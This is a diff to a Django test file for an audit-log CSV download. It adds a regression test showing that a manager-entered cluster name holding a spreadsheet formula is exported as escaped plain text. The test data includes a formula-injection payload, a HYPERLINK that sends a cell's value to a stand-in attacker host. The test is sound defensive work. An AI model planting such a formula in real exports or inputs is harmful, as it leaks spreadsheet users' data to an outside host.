@@ -5,10 +5,13 @@ import csv
 import io
 
 import pytest
+from django.test import Client
 from django.urls import reverse
 
 from tinklas.accounts.tests.factories import cluster_manager, superuser
 from tinklas.clusters.models import Cluster
+from tinklas.clusters.tests.factories import ClusterFactory
+from tinklas.clusters.tests.test_self_service_profile import form_data
 from tinklas.organisations.models import Organisation
 from tinklas.organisations.tests.factories import rename_in_admin
 
@@ -46,11 +49,33 @@ def test_staff_filter_the_log_and_download_it(client, staff):
 
     download = client.get(reverse("audit-log"), {"format": "csv", "record": "antroji"})
     assert download["Content-Type"].startswith("text/csv")
-    rows = list(csv.reader(io.StringIO(b"".join(download.streaming_content).decode())))
+    rows = downloaded_rows(download)
     assert rows[0][:3] == ["time", "action", "kind of record"]
     assert [row[3] for row in rows[1:]] == ["UAB Antroji"]
     assert rows[1][5] == "staff-audit@example.org"
     assert rows[1][6] == "request-second"
+
+
+def downloaded_rows(response) -> list[list[str]]:  # type: ignore[no-untyped-def]
+    # A byte-order mark first, so that spreadsheets read the file as UTF-8.
+    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig"))))
+
+
+def test_a_name_a_manager_made_a_formula_is_plain_text_in_the_staff_download(client, staff):
+    cluster = ClusterFactory(name_lt="Maisto klasteris", name_en="Food cluster")
+    formula = '=HYPERLINK("http://evil.example/steal?x="&A1,"Open")'
+    manager = Client()
+    manager.force_login(cluster_manager(cluster))
+    edit_url = reverse("cluster-edit", args=[cluster.slug])
+    data = form_data(manager.get(edit_url))
+    data.update(name_lt=formula, name_en=formula)
+    assert manager.post(edit_url, data).status_code == 302
+
+    download = client.get(reverse("audit-log"), {"format": "csv", "record": "HYPERLINK"})
+    header, *rows = downloaded_rows(download)
+    record = header.index("record")
+    assert [row[record] for row in rows] == ["'" + formula]
+    assert not any(cell.startswith(("=", "@", "+", "-")) for row in rows for cell in row)
 
 
 def test_history_of_a_cluster_and_an_organisation(client, staff):
